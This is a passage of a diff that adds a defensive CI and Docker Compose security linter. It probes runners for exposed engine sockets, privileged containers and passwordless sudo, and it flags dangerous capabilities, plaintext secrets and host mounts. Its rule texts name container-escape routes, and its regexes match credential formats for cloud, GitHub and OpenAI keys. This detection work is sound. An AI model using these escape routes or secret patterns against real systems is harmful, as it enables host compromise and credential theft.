+  probe.findings.push({
+    ruleId,
+    severity: severity ?? rule35?.severity ?? "medium",
+    title: rule35?.title ?? ruleId,
+    message,
+    location: { path: evidence, object: `runner:${probe.platform}` },
+    key
+  });
+}
+var isTrue2 = (value) => value !== void 0 && /^(?:1|t|true)$/i.test(value.trim());
+function probeRunner(input) {
+  const env = input.env;
+  const platform2 = env.GITHUB_ACTIONS === "true" ? "github-actions" : env.GITLAB_CI === "true" ? "gitlab-ci" : "ci";
+  if (!(env.CI === "true" || env.GITHUB_ACTIONS === "true" || env.GITLAB_CI === "true")) {
+    return {
+      findings: [],
+      notes: ["Runner probe skipped: not running in CI (CI, GITHUB_ACTIONS and GITLAB_CI are not set)."]
+    };
+  }
+  const probe = { input, platform: platform2, findings: [], notes: [] };
+  probeForkOnSelfHosted(probe);
+  probeEngineSockets(probe);
+  const statusText = input.readFile("/proc/self/status");
+  const status = statusText === void 0 ? void 0 : parseProcStatus(statusText);
+  if (!status) probe.notes.push("Could not read /proc/self/status: capabilities, seccomp and user were not checked.");
+  const container = containerEvidence(probe);
+  if (status) probeCapabilities(probe, status, container);
+  if (status) probeUser(probe, status);
+  probeDebug(probe);
+  probe.notes.push(
+    "Not done: token permission probing (what GITHUB_TOKEN / CI_JOB_TOKEN may do) is out of scope of the runner probe.",
+    "Not done: runc / containerd / Docker version matching against known CVEs (no binaries are executed)."
+  );
+  return { findings: probe.findings, notes: probe.notes };
+}
+function probeForkOnSelfHosted(probe) {
+  const env = probe.input.env;
+  if (probe.platform === "github-actions") {
+    const runnerEnvironment = env.RUNNER_ENVIRONMENT;
+    if (!runnerEnvironment) {
+      probe.notes.push("RUNNER_ENVIRONMENT is not set: could not tell whether the runner is self-hosted.");
+      return;
+    }
+    if (runnerEnvironment !== "self-hosted") {
+      probe.notes.push(`Runner environment: ${runnerEnvironment}.`);
+      return;
+    }
+    const fork = githubForkPullRequest(probe);
+    if (fork === void 0) return;
+    if (fork.isFork) {
+      report(
+        probe,
+        RUNNER_RULE.selfHostedFork,
+        "env:GITHUB_EVENT_PATH",
+        `This self-hosted runner is running pull request code from the fork ${fork.head} (base ${fork.base}).`,
+        "github"
+      );
+    } else probe.notes.push("Self-hosted runner; the pull request comes from the same repository.");
+    return;
+  }
+  if (probe.platform === "gitlab-ci") {
+    const selfHosted = gitlabSelfHosted(env);
+    if (selfHosted === void 0) {
+      probe.notes.push(
+        "Could not tell whether the GitLab runner is self-hosted (no CI_SERVER_HOST, runner description or tags)."
+      );
+      return;
+    }
+    const source = env.CI_MERGE_REQUEST_SOURCE_PROJECT_ID;
+    const target = env.CI_MERGE_REQUEST_PROJECT_ID;
+    if (!source || !target) {
+      probe.notes.push(`${selfHosted ? "Self-hosted" : "GitLab-hosted"} runner; not a merge request pipeline.`);
+      return;
+    }
+    if (selfHosted && source !== target) {
+      report(
+        probe,
+        RUNNER_RULE.selfHostedFork,
+        "env:CI_MERGE_REQUEST_SOURCE_PROJECT_ID",
+        `This self-hosted runner is running merge request code from project ${source}, a fork of project ${target}.`,
+        "gitlab"
+      );
+    } else
+      probe.notes.push(
+        `${selfHosted ? "Self-hosted" : "GitLab-hosted"} runner; merge request from ${source === target ? "the same project" : "a fork"}.`
+      );
+  }
+}
+function githubForkPullRequest(probe) {
+  const path8 = probe.input.env.GITHUB_EVENT_PATH;
+  const text = path8 ? probe.input.readFile(path8) : void 0;
+  if (!path8 || text === void 0) {
+    probe.notes.push(
+      "Could not read the GitHub event payload (GITHUB_EVENT_PATH): fork pull requests were not checked."
+    );
+    return void 0;
+  }
+  if (text.length > MAX_PROBE_FILE_BYTES) {
+    probe.notes.push("The GitHub event payload is too large to read: fork pull requests were not checked.");
+    return void 0;
+  }
+  let event;
+  try {
+    event = JSON.parse(text);
+  } catch {
+    probe.notes.push("The GitHub event payload is not valid JSON: fork pull requests were not checked.");
+    return void 0;
+  }
+  const pr = event.pull_request;
+  if (!pr) {
+    probe.notes.push("Self-hosted runner; the event is not a pull request.");
+    return void 0;
+  }
+  const head = pr.head?.repo?.full_name;
+  const base = pr.base?.repo?.full_name;
+  if (typeof head !== "string" || typeof base !== "string") {
+    probe.notes.push("The pull request event has no head or base repository name (a deleted fork?): not judged.");
+    return void 0;
+  }
+  return { isFork: head.toLowerCase() !== base.toLowerCase(), head, base };
+}
+function gitlabSelfHosted(env) {
+  const host = env.CI_SERVER_HOST;
+  if (!host) return void 0;
+  if (host !== "gitlab.com") return !/\.gitlab-dedicated\.com$/.test(host) ? true : void 0;
+  const description = env.CI_RUNNER_DESCRIPTION;
+  const tags = env.CI_RUNNER_TAGS;
+  if (description === void 0 && tags === void 0) return void 0;
+  const hosted = /runners-manager\.gitlab\.com/.test(description ?? "") || (tags ?? "").replace(/[[\]"]/g, "").split(",").some((tag) => tag.trim().startsWith("saas-"));
+  return !hosted;
+}
+var ENGINE_SOCKETS = [
+  "/var/run/docker.sock",
+  "/run/docker.sock",
+  "/run/podman/podman.sock",
+  "/run/containerd/containerd.sock"
+];
+function probeEngineSockets(probe) {
+  const candidates2 = [...ENGINE_SOCKETS];
+  const dockerHost = probe.input.env.DOCKER_HOST;
+  if (dockerHost?.startsWith("unix://")) candidates2.unshift(dockerHost.slice("unix://".length));
+  else if (dockerHost)
+    probe.notes.push(`DOCKER_HOST is ${dockerHost.replace(/\/\/[^@/]*@/, "//\u2026@")}; a remote daemon was not contacted.`);
+  const reported = /* @__PURE__ */ new Set();
+  for (const path8 of candidates2) {
+    if (!probe.input.statSocket(path8)) continue;
+    const name = path8.slice(path8.lastIndexOf("/") + 1);
+    if (reported.has(name)) continue;
+    reported.add(name);
+    report(
+      probe,
+      RUNNER_RULE.dockerSocket,
+      path8,
+      `The container engine socket ${path8} is reachable from the job: any code it runs can start a privileged container on the host.`,
+      name
+    );
+  }
+  if (reported.size === 0) probe.notes.push(`No container engine socket found at ${candidates2.join(", ")}.`);
+}
+function containerEvidence(probe) {
+  const env = probe.input.env;
+  const readFile2 = (path8) => probe.input.readFile(path8);
+  if (readFile2("/.dockerenv") !== void 0) return "/.dockerenv exists";
+  if (readFile2("/run/.containerenv") !== void 0) return "/run/.containerenv exists";
+  const cgroup = readFile2("/proc/1/cgroup");
+  if (cgroup && /docker|kubepods|containerd|libpod|lxc|crio/.test(cgroup))
+    return "/proc/1/cgroup names a container runtime";
+  if (env.KUBERNETES_SERVICE_HOST) return "KUBERNETES_SERVICE_HOST is set";
+  const mountinfo = readFile2("/proc/self/mountinfo");
+  if (mountinfo && mountinfo.split("\n").some((line) => / \/ \/ .* - overlay /.test(line))) {
+    return "the root filesystem is an overlay mount";
+  }
+  return void 0;
+}
+function probeCapabilities(probe, status, container) {
+  const effective = parseCapabilityMask(status.capEff);
+  const bounding = parseCapabilityMask(status.capBnd);
+  const judged = bounding ?? effective;
+  if (judged === void 0) {
+    probe.notes.push("No readable CapBnd or CapEff line in /proc/self/status: capabilities were not checked.");
+    return;
+  }
+  const field = bounding !== void 0 ? "CapBnd" : "CapEff";
+  const lastCapText = probe.input.readFile("/proc/sys/kernel/cap_last_cap")?.trim();
+  const lastCap = lastCapText && /^\d+$/.test(lastCapText) ? Number(lastCapText) : MIN_LAST_CAP;
+  const describe2 = (mask) => {
+    if (mask === void 0) return "unknown";
+    const names = capabilityNames(mask);
+    return names.length === 0 ? "none" : hasAllCapabilities(mask, lastCap) ? `all ${lastCap + 1}` : names.join(", ");
+  };
+  const full = hasAllCapabilities(judged, lastCap);
+  probe.notes.push(
+    `Capabilities: effective ${describe2(effective)}; bounding ${describe2(bounding)}; seccomp ${status.seccomp === void 0 ? "unknown" : ["disabled", "strict", "filter"][status.seccomp] ?? status.seccomp}; no_new_privs ${status.noNewPrivs === void 0 ? "unknown" : status.noNewPrivs === 1 ? "on" : "off"}; container: ${container ?? "no evidence found"}${lastCapText ? "" : "; /proc/sys/kernel/cap_last_cap unreadable, assumed 37"}.`
+  );
+  if (!container) {
+    if (full) {
+      probe.notes.push("Full capability set but no sign of a container: a host or VM, not a privileged container.");
+    }
+    return;
+  }
+  if (full) {
+    report(
+      probe,
+      RUNNER_RULE.privileged,
+      "/proc/self/status",
+      `The job runs in a privileged container (${container}; ${field} ${field === "CapBnd" ? status.capBnd : status.capEff} holds every capability): container isolation is off.`,
+      "privileged"
+    );
+  } else {
+    const dangerous = capabilityNames(judged).filter((name) => ESCAPE_CAPABILITIES.has(name));
+    if (dangerous.length > 0) {
+      report(
+        probe,
+        RUNNER_RULE.capabilities,
+        "/proc/self/status",
+        `The job container allows ${dangerous.join(", ")} (${field}; ${container}), enough to break out of the container.`,
+        dangerous.join(",")
+      );
+    }
+  }
+  if (status.seccomp === 0) {
+    report(
+      probe,
+      RUNNER_RULE.seccomp,
+      "/proc/self/status",
+      `Seccomp is disabled for the job container (${container}).`,
+      "Seccomp"
+    );
+  }
+}
+function probeUser(probe, status) {
+  const hostedVm = probe.input.env.RUNNER_ENVIRONMENT === "github-hosted";
+  const severity = hostedVm ? "low" : void 0;
+  if (status.uid === void 0) {
+    probe.notes.push("No readable Uid line in /proc/self/status: the job user was not checked.");
+    return;
+  }
+  if (status.uid === 0) {
+    report(probe, RUNNER_RULE.root, "/proc/self/status", "The job runs as root (effective UID 0).", "uid0", severity);
+    return;
+  }
+  const users = parseIdFile(probe.input.readFile("/etc/passwd"));
+  const groupNames = parseIdFile(probe.input.readFile("/etc/group"));
+  const user = users.get(status.uid);
+  if (!user) {
+    probe.notes.push(`The job runs as UID ${status.uid}, which has no /etc/passwd entry: sudo rules were not checked.`);
+    return;
+  }
+  const groups = status.groups.map((gid) => groupNames.get(gid)).filter((g) => g !== void 0);
+  const sudo2 = findPasswordlessSudo(probe.input, { user, uid: status.uid, groups });
+  if (sudo2.grant) {
+    report(
+      probe,
+      RUNNER_RULE.root,
+      sudo2.grant.path,
+      `The job user ${user} can run every command as root without a password (${sudo2.grant.path}:${sudo2.grant.line}: \`${sudo2.grant.text.slice(0, 120)}\`).`,
+      "sudo-nopasswd",
+      severity
+    );
+    return;
+  }
+  probe.notes.push(
+    `The job runs as ${user} (UID ${status.uid}); ` + (sudo2.read.length > 0 ? `no passwordless sudo rule in ${sudo2.read.join(", ")}` : "no sudoers file was readable") + (sudo2.unreadable.length > 0 ? `; could not read ${sudo2.unreadable.join(", ")}.` : ".")
+  );
+}
+function probeDebug(probe) {
+  const env = probe.input.env;
+  const flags = [
+    ["CI_DEBUG_TRACE", isTrue2(env.CI_DEBUG_TRACE), "high"],
+    ["CI_DEBUG_SERVICES", isTrue2(env.CI_DEBUG_SERVICES), void 0],
+    ["RUNNER_DEBUG", env.RUNNER_DEBUG === "1", void 0],
+    ["ACTIONS_STEP_DEBUG", isTrue2(env.ACTIONS_STEP_DEBUG), void 0],
+    ["ACTIONS_RUNNER_DEBUG", isTrue2(env.ACTIONS_RUNNER_DEBUG), void 0]
+  ];
+  if (!flags.some(([, on]) => on))
+    probe.notes.push(`Debug logging: none of ${flags.map(([name]) => name).join(", ")} is on.`);
+  for (const [name, on, severity] of flags) {
+    if (!on) continue;
+    report(probe, RUNNER_RULE.debug, `env:${name}`, `Debug logging is on for this job (${name}).`, name, severity);
+  }
+}
+function systemRunnerProbeInput(env) {
+  return {
+    env,
+    readFile(path8) {
+      try {
+        const stat4 = statSync(path8);
+        if (!stat4.isFile() || stat4.size > MAX_PROBE_FILE_BYTES) return void 0;
+        return readFileSync(path8, "utf8");
+      } catch {
+        return void 0;
+      }
+    },
+    statSocket(path8) {
+      try {
+        return statSync(path8).isSocket();
+      } catch {
+        return false;
+      }
+    },
+    listDir(path8) {
+      try {
+        return readdirSync(path8);
+      } catch {
+        return void 0;
+      }
+    }
+  };
+}
+function runRunnerProbe(context) {
+  if (context.isBase) return Promise.resolve({ findings: [] });
+  if (context.policy.checks.hardening["runner-probe"] === false) {
+    return Promise.resolve({ findings: [], notes: ["Runner probe off (checks.hardening.runner-probe: false)."] });
+  }
+  return Promise.resolve(probeRunner(systemRunnerProbeInput(context.env)));
+}
+
+// src/checks/hardening/index.ts
+var hardeningLinters = [githubActionsLinter, gitlabCiLinter];
+var hardeningCheck = fileCheck({
+  id: "hardening",
+  title: "Build-environment hardening",
+  linters: hardeningLinters,
+  commonRules: [...hardeningCommonRules, ...runnerRules],
+  extra: runRunnerProbe
+});
+
+// src/checks/manifests/compose/report.ts
+var Reporter = class {
+  constructor(file, rule35) {
+    this.file = file;
+    this.rule = rule35;
+  }
+  file;
+  rule;
+  findings = [];
+  seen = /* @__PURE__ */ new Map();
+  report(service, node, input) {
+    const { line, column } = this.file.view.position(node ?? service.key);
+    const scope = `${service.name}\0${input.key}`;
+    const count = (this.seen.get(scope) ?? 0) + 1;
+    this.seen.set(scope, count);
+    this.findings.push({
+      ruleId: this.rule.id,
+      severity: this.rule.severity,
+      title: this.rule.title,
+      message: input.message,
+      location: { path: this.file.path, startLine: line, startColumn: column, object: `service/${service.name}` },
+      key: count === 1 ? input.key : `${input.key}#${count}`,
+      ...input.fix ? { fix: input.fix } : {}
+    });
+  }
+};
+function code(text, max = 80) {
+  const clean2 = text.replace(/[`\r\n]+/g, " ");
+  return "`" + (clean2.length > max ? `${clean2.slice(0, max - 1)}\u2026` : clean2) + "`";
+}
+function withDefaults(value) {
+  let unknown = false;
+  const result = value.replace(
+    /\$\$|\$\{([A-Za-z_][A-Za-z0-9_]*)(?::?-([^}]*))?(?::?[?+][^}]*)?\}|\$([A-Za-z_][A-Za-z0-9_]*)/g,
+    (match2, _name, fallback) => {
+      if (match2 === "$$") return "$";
+      if (fallback !== void 0) return fallback;
+      unknown = true;
+      return "";
+    }
+  );
+  return unknown ? void 0 : result;
+}
+
+// src/checks/manifests/compose/capabilities.ts
+var DANGEROUS_CAPABILITIES = {
+  ALL: "every capability, equivalent to privileged",
+  SYS_ADMIN: "mount filesystems, cgroups escapes, most of root",
+  NET_ADMIN: "reconfigure networking, sniff and redirect traffic",
+  SYS_PTRACE: "trace and inject code into other processes",
+  SYS_MODULE: "load kernel modules",
+  DAC_READ_SEARCH: "read any file (open_by_handle_at escape)",
+  DAC_OVERRIDE: "bypass file permission checks",
+  SYS_RAWIO: "raw I/O on devices and memory",
+  SYS_BOOT: "reboot the host",
+  SYS_TIME: "change the host clock",
+  SYSLOG: "read kernel logs and addresses",
+  BPF: "load eBPF programs into the kernel",
+  PERFMON: "kernel performance monitoring",
+  MAC_ADMIN: "change AppArmor/SELinux policy",
+  MAC_OVERRIDE: "bypass AppArmor/SELinux policy",
+  NET_RAW: "craft raw packets (ARP/DNS spoofing)",
+  SETFCAP: "grant file capabilities",
+  LINUX_IMMUTABLE: "change immutable files",
+  SYS_RESOURCE: "override resource limits",
+  WAKE_ALARM: "interfere with host power management",
+  BLOCK_SUSPEND: "block host suspend"
+};
+var rule17 = {
+  id: "compose/dangerous-capability",
+  check: "manifests",
+  title: "Dangerous Linux capability added",
+  severity: "high",
+  description: "A compose service adds, in `cap_add`, `ALL` or a capability that allows breaking out of the container or interfering with the host: `SYS_ADMIN`, `NET_ADMIN`, `SYS_PTRACE`, `SYS_MODULE`, `DAC_READ_SEARCH`, `DAC_OVERRIDE`, `SYS_RAWIO`, `SYS_BOOT`, `SYS_TIME`, `SYSLOG`, `BPF`, `PERFMON`, `MAC_ADMIN`, `MAC_OVERRIDE`, `NET_RAW`, `SETFCAP`, `LINUX_IMMUTABLE`, `SYS_RESOURCE`, `WAKE_ALARM`, `BLOCK_SUSPEND` (with or without the `CAP_` prefix, any case).",
+  rationale: "Capabilities split root's powers; these are the ones known to lead to host compromise. `SYS_ADMIN` alone enables several published container escapes (cgroup `release_agent`, mounting host filesystems), `DAC_READ_SEARCH` enabled the \"shocker\" escape, `SYS_MODULE` loads arbitrary kernel code, `SYS_PTRACE` with a shared PID namespace reads other processes' secrets.",
+  fix: "Drop everything and add back only narrow capabilities the service really needs:\n\n```yaml\nservices:\n  app:\n    cap_drop: [ALL]\n    cap_add: [NET_BIND_SERVICE]\n```\n\nFor tools that need more (VPN, monitoring agents), run them outside the application stack.",
+  references: [
+    "https://docs.docker.com/reference/compose-file/services/#cap_add",
+    "https://man7.org/linux/man-pages/man7/capabilities.7.html"
+  ]
+};
+var dangerousCapability = {
+  rule: rule17,
+  check(file) {
+    const reporter = new Reporter(file, rule17);
+    for (const service of file.services) {
+      const entry = file.view.get(service.node, "cap_add");
+      if (!entry) continue;
+      for (const item of file.view.items(entry.value)) {
+        const raw = file.view.scalar(item);
+        if (raw === void 0) continue;
+        const capability = raw.trim().toUpperCase().replace(/^CAP_/, "");
+        const why = DANGEROUS_CAPABILITIES[capability];
+        if (!why) continue;
+        reporter.report(service, item, {
+          key: capability,
+          message: `Service \`${service.name}\` adds \`${capability}\` (${why}).`,
+          fix: "cap_drop: [ALL] and add back only narrow capabilities."
+        });
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/secrets.ts
+var SECRET_NAME_RE = /(?:^|_)(?:apikey|api_key|auth|credential|credentials|key|password|pword|passwd|pass|secret|token|accesskey|privatekey|secretkey)(?:_|$)/i;
+var NOT_SECRET_NAME_RE = /(?:^|_)(?:public|file|path|dir|gpg|pgp|length|size|ttl|timeout|expiry|url|uri|endpoint|host|type|method|mode|enabled|disabled|header|algorithm)(?:_|$)/i;
+function isSecretName(name) {
+  return SECRET_NAME_RE.test(name) && !NOT_SECRET_NAME_RE.test(name);
+}
+var TOKEN_PATTERNS = [
+  {
+    id: "aws-access-key-id",
+    description: "AWS access key id",
+    re: /\b(?:A3T[A-Z0-9]|AKIA|ASIA|ABIA|ACCA)[A-Z2-7]{16}\b/
+  },
+  { id: "github-token", description: "GitHub token", re: /\bgh[pousr]_[A-Za-z0-9]{36,255}\b/ },
+  { id: "github-fine-grained-pat", description: "GitHub fine-grained token", re: /\bgithub_pat_[A-Za-z0-9_]{82}\b/ },
+  {
+    id: "gitlab-token",
+    description: "GitLab token",
+    re: /\bgl(?:pat|dt|rt|cbt|ptt|ft|imt|agent|soat)-[A-Za-z0-9_-]{20,}/
+  },
+  { id: "slack-token", description: "Slack token", re: /\bxox[abposr]-[A-Za-z0-9-]{10,}/ },
+  { id: "stripe-secret-key", description: "Stripe secret key", re: /\b[rs]k_live_[A-Za-z0-9]{20,}\b/ },
+  { id: "google-api-key", description: "Google API key", re: /\bAIza[A-Za-z0-9_-]{35}\b/ },
+  { id: "npm-token", description: "npm access token", re: /\bnpm_[A-Za-z0-9]{36}\b/ },
+  { id: "pypi-token", description: "PyPI upload token", re: /\bpypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}/ },
+  { id: "docker-hub-pat", description: "Docker Hub access token", re: /\bdckr_pat_[A-Za-z0-9_-]{27,}/ },
+  {
+    id: "openai-key",
+    description: "OpenAI API key",
+    re: /\bsk-(?:proj-)?[A-Za-z0-9_-]{20,}T3BlbkFJ[A-Za-z0-9_-]{20,}/
+  },
+  { id: "private-key", description: "private key", re: /-----BEGIN (?:[A-Z]+ )*PRIVATE KEY( BLOCK)?-----/ },
+  {
+    id: "url-credentials",
+    description: "password in a URL",
+    // scheme://user:password@host, where the password is literal (not `${VAR}` / `$VAR`).
+    re: /\b[a-z][a-z0-9+.-]*:\/\/[^\s:/@]+:(?!\$)[^\s@/]+@[^\s/]+/i
+  }
+];
+function findTokenPattern(value) {
+  return TOKEN_PATTERNS.find((pattern) => pattern.re.test(value));
+}
+function hasInterpolation(value) {
+  return /(?<!\$)\$(?:\{|[A-Za-z_])/.test(value.replace(/\$\$/g, ""));
+}
+
+// src/checks/manifests/compose/environment-secrets.ts
+function environmentVariables(file, service) {
+  const { view: view2 } = file;
+  const entry = view2.get(service.node, "environment");
+  if (!entry) return [];
+  if (view2.asMap(entry.value)) {
+    return view2.entries(entry.value).map((item) => ({
+      name: view2.scalar(item.key) ?? "",
+      value: view2.scalar(item.value),
+      node: item.value ?? item.key
+    }));
+  }
+  return view2.items(entry.value).flatMap((item) => {
+    const text = view2.scalar(item);
+    if (text === void 0) return [];
+    const eq = text.indexOf("=");
+    return [{ name: eq < 0 ? text : text.slice(0, eq), value: eq < 0 ? void 0 : text.slice(eq + 1), node: item }];
+  });
+}
+var rule18 = {
+  id: "compose/secret-in-environment",
+  check: "manifests",
+  title: "Plaintext secret in `environment`",
+  severity: "high",
+  description: "A compose service sets, in `environment:` (map or list syntax, merges included), a literal value for a variable whose name says it is a secret (`_`-separated `PASSWORD`, `PASSWD`, `PASS`, `SECRET`, `TOKEN`, `KEY`, `APIKEY`, `AUTH`, `CREDENTIALS`...; names that also contain `FILE`, `PATH`, `PUBLIC`, `URL`, `HOST`, `TYPE`... are exempt), or any value that matches a well-known credential format (cloud keys, GitHub/GitLab/npm/Slack/Stripe tokens, private keys, passwords in URLs). Values that use interpolation (`${DB_PASSWORD}`, `$TOKEN`) and variables without a value are not reported. The value is never shown.",
+  rationale: "A committed secret is readable by everyone with access to the repository and its history, forks and CI logs, and stays valid until rotated. Environment variables are also visible through `docker inspect` and to every process and crash reporter in the container.",
+  fix: "Take the value from the deployment environment or, better, use compose secrets mounted as files:\n\n```yaml\nservices:\n  db:\n    image: postgres:16.4\n    environment:\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\n    secrets: [db_password]\nsecrets:\n  db_password:\n    environment: DB_PASSWORD\n```\n\nRotate any credential that was committed.",
+  references: [
+    "https://docs.docker.com/compose/how-tos/use-secrets/",
+    "https://docs.docker.com/compose/how-tos/environment-variables/variable-interpolation/"
+  ]
+};
+var secretInEnvironment = {
+  rule: rule18,
+  check(file) {
+    const reporter = new Reporter(file, rule18);
+    for (const service of file.services) {
+      for (const variable of environmentVariables(file, service)) {
+        const value = variable.value;
+        if (value === void 0 || value === "") continue;
+        const pattern = findTokenPattern(value);
+        if (pattern) {
+          reporter.report(service, variable.node, {
+            key: `${variable.name}:${pattern.id}`,
+            message: `\`${variable.name}\` in service \`${service.name}\` holds what looks like a ${pattern.description} (value redacted).`,
+            fix: `${variable.name}: \${${variable.name}}`
+          });
+        } else if (isSecretName(variable.name) && !hasInterpolation(value)) {
+          reporter.report(service, variable.node, {
+            key: variable.name,
+            message: `\`${variable.name}\` in service \`${service.name}\` is set to a literal value (redacted); secrets do not belong in the compose file.`,
+            fix: `${variable.name}: \${${variable.name}}`
+          });
+        }
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/compose/host-namespaces.ts
+var NAMESPACE_KEYS = {
+  network_mode: "network",
+  pid: "process (PID)",
+  ipc: "IPC",
+  userns_mode: "user",
+  uts: "UTS (hostname)"
+};
+var rule19 = {
+  id: "compose/host-namespace",
+  check: "manifests",
+  title: "Service shares a host namespace",
+  severity: "high",
+  description: "A compose service joins a namespace of the host: `network_mode: host`, `pid: host`, `ipc: host`, `userns_mode: host` (opts out of daemon-wide user-namespace remapping) or `uts: host`.",
+  rationale: "Namespaces are what isolates a container. With the host network it can reach services bound to localhost (cloud metadata proxies, the Docker API, databases) and sniff or spoof traffic; with the host PID namespace it can see and signal, and with `SYS_PTRACE` inspect, every host process and read their environment; host IPC exposes shared memory of host processes; `userns_mode: host` maps root in the container back to real root.",
+  fix: 'Remove the setting and publish only the ports you need:\n\n```yaml\nservices:\n  app:\n    ports: ["127.0.0.1:8080:8080"]\n```',
+  references: [
+    "https://docs.docker.com/reference/compose-file/services/#network_mode",
+    "https://docs.docker.com/reference/compose-file/services/#pid"
+  ]
+};
+var hostNamespace = {
+  rule: rule19,
+  check(file) {
+    const reporter = new Reporter(file, rule19);
+    for (const service of file.services) {
+      for (const [key, namespace] of Object.entries(NAMESPACE_KEYS)) {
+        const entry = file.view.get(service.node, key);
+        if (!entry || file.view.scalar(entry.value)?.trim().toLowerCase() !== "host") continue;
+        reporter.report(service, entry.value, {
+          key,
+          message: `Service \`${service.name}\` uses the host's ${namespace} namespace (\`${key}: host\`).`,
+          fix: `Remove ${key}: host.`
+        });
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/compose/host-mounts.ts
+import { posix as posix2 } from "node:path";
+var RUNTIME_SOCKETS = /* @__PURE__ */ new Set([
+  "/var/run/docker.sock",
+  "/run/docker.sock",
+  "/var/run/containerd/containerd.sock",
+  "/run/containerd/containerd.sock",
+  "/var/run/crio/crio.sock",
+  "/run/crio/crio.sock",
+  "/var/run/podman/podman.sock",
+  "/run/podman/podman.sock",
+  "/var/run/cri-dockerd.sock"
+]);
+var SENSITIVE_DIRS = /* @__PURE__ */ new Set([
+  "/",
+  "/etc",
+  "/proc",
+  "/sys",
+  "/dev",
+  "/boot",
+  "/root",
+  "/run",
+  "/var/run",
+  "/lib/modules",
+  "/usr",
+  "/bin",
+  "/sbin",
+  "/lib",
+  "/home"
+]);
+var SENSITIVE_TREES = [
+  "/var/lib/docker",
+  "/var/lib/containerd",
+  "/var/lib/kubelet",
+  "/etc/kubernetes",
+  "/proc/sys",
+  "/sys/kernel"
+];
+function sensitiveHostPath(path8) {
+  if (!path8.startsWith("/")) return void 0;
+  const normalized = posix2.normalize(path8).replace(/(.)\/+$/, "$1");
+  if (RUNTIME_SOCKETS.has(normalized)) return "the container runtime socket (root on the host)";
+  if (SENSITIVE_DIRS.has(normalized))
+    return normalized === "/" ? "the whole host filesystem" : `the host's ${normalized}`;
+  const tree = SENSITIVE_TREES.find((root) => normalized === root || normalized.startsWith(`${root}/`));
+  return tree ? `the host's ${tree}` : void 0;
+}
+function shortVolumeSource(spec) {
+  if (/^[A-Za-z]:[\\/]/.test(spec)) return void 0;
+  const parts = spec.split(":");
+  if (parts.length < 2) return void 0;
+  const source = parts[0];
+  return /^(?:\/|\.|~)/.test(source) ? source : void 0;
+}
+var rule20 = {
+  id: "compose/sensitive-host-mount",
+  check: "manifests",
+  title: "Sensitive host path mounted",
+  severity: "high",
+  description: "A compose service bind-mounts the Docker (or containerd, CRI-O, Podman) socket, the host root `/`, or a sensitive host directory: `/etc`, `/proc`, `/sys`, `/dev`, `/boot`, `/root`, `/run`, `/var/run`, `/usr`, `/home`, `/lib/modules`, or anything under `/var/lib/docker`, `/var/lib/containerd`, `/var/lib/kubelet`, `/etc/kubernetes`. Both the short `src:dst[:mode]` syntax and the long `type: bind` / `source:` syntax are checked; `${VAR:-default}` sources use their default. Single files such as `/etc/localtime` are not reported. Read-only mounts are reported too: a read-only socket still accepts API calls, and `/etc` or `/proc` read-only still leak host secrets.",
+  rationale: "Access to the runtime socket is root on the host: the container can start a privileged container that mounts the host filesystem. Mounting `/`, `/etc`, `/root` or `/var/lib/docker` exposes host credentials, SSH keys and every other container's data, and write access lets the container plant cron jobs or binaries on the host. `/proc` and `/sys` expose kernel knobs and other processes.",
+  fix: "Mount only the data the service needs, read-only when possible. For tools that need the Docker API, put a filtering proxy in front of it:\n\n```yaml\nservices:\n  app:\n    volumes:\n      - ./config:/etc/app:ro\n  docker-proxy:\n    image: tecnativa/docker-socket-proxy:0.3.0\n    environment: { CONTAINERS: 1, POST: 0 }\n```",
+  references: [
+    "https://docs.docker.com/reference/compose-file/services/#volumes",
+    "https://docs.docker.com/engine/security/#docker-daemon-attack-surface"
+  ]
+};
+var sensitiveHostMount = {
+  rule: rule20,
+  check(file) {
+    const reporter = new Reporter(file, rule20);
+    const { view: view2 } = file;
+    for (const service of file.services) {
+      const entry = view2.get(service.node, "volumes");
+      if (!entry) continue;
+      for (const item of view2.items(entry.value)) {
+        let source;
+        const spec = view2.scalar(item);
+        if (spec !== void 0) {
+          const resolved = withDefaults(spec);
+          source = resolved === void 0 ? void 0 : shortVolumeSource(resolved);
+        } else if (view2.asMap(item)) {
+          const type = view2.scalar(view2.get(item, "type")?.value);
+          const raw = view2.scalar(view2.get(item, "source")?.value);
+          source = type === "bind" && raw !== void 0 ? withDefaults(raw) : void 0;
+        }
+        if (source === void 0) continue;
+        const why = sensitiveHostPath(source);
+        if (!why) continue;
+        reporter.report(service, item, {
+          key: posix2.normalize(source),
+          message: `Service \`${service.name}\` mounts ${code(source)}, ${why}.`,
+          fix: "Mount only the files the service needs; use a socket proxy for the Docker API."
+        });
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/image-reference.ts
+function parseImageReference(reference) {
+  const at = reference.indexOf("@");
+  const digest = at >= 0 ? reference.slice(at + 1) : void 0;
+  const withoutDigest = at >= 0 ? reference.slice(0, at) : reference;
+  const colon = withoutDigest.lastIndexOf(":");
+  const hasTag = colon > withoutDigest.lastIndexOf("/");
+  return {
+    name: hasTag ? withoutDigest.slice(0, colon) : withoutDigest,
+    ...hasTag ? { tag: withoutDigest.slice(colon + 1) } : {},
+    ...digest ? { digest } : {}
+  };
+}
+var DIGEST_RE = /^[a-z0-9]+(?:[.+_-][a-z0-9]+)*:[a-zA-Z0-9=_-]{32,}$/;
+function pinningOf(reference) {
+  const parsed = parseImageReference(reference);
+  if (parsed.digest !== void 0 && DIGEST_RE.test(parsed.digest)) return "digest";
+  if (parsed.tag === void 0 || parsed.tag === "") return "untagged";
+  return parsed.tag === "latest" ? "latest" : "tag";
+}
+
+// src/checks/manifests/compose/images.ts
+var latestRule = {
+  id: "compose/image-latest",
+  check: "manifests",
+  title: "Service image is `latest` or untagged",
+  severity: "medium",
+  description: "A compose service runs an `image:` with the `latest` tag or no tag (which means `latest`) and no digest. Services that also have `build:` (the image is the name of what they build) are not reported. `${VAR:-default}` uses the default; an image that is only a variable without default is not judged.",
+  rationale: "`latest` changes whenever the publisher pushes: each `docker compose pull` may run different code, a reviewed change says nothing about what runs, and a compromised upstream push is deployed without any change on your side.",
+  fix: "Pin a version, ideally with its digest:\n\n```yaml\nservices:\n  cache:\n    image: redis:7.4.1-alpine@sha256:<digest>\n```",
+  references: ["https://docs.docker.com/reference/compose-file/services/#image"]
+};
+var digestRule = {
